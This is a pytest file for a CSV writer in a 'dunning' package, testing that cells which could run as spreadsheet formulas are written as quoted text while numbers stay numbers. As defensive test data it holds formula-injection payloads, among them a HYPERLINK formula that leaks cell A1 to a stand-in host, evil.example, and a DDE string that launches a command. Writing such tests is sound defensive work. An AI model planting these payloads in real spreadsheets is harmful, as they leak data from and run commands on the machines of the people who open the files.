"""Cells of the CSV files dunning writes: a formula is shown as text, a number stays a number."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from dunning.spreadsheet import safe_cell, writer


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+33 1 00 00 00 00", "'+33 1 00 00 00 00"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-12.50", "-12.50"),
    (Decimal("-12.50"), "-12.50"),
    ("-", "'-"),
    ("-1e5", "'-1e5"),
    ("F-2026-001", "F-2026-001"),
    (46, 46),
    (None, None),
], ids=["hyperlink", "phone", "dde", "at", "tab", "carriage return", "credit note",
        "decimal", "lone minus", "exponent", "plain text", "int", "none"])
def test_a_cell_that_could_run_is_written_as_text(value: Any, written: Any) -> None:
    assert safe_cell(value) == written


def test_the_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    writer(out, delimiter=";").writerows([["=1+1", "-3.00", "ok"], ["@x", 5, ""]])
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        ["'=1+1", "-3.00", "ok"], ["'@x", "5", ""]]
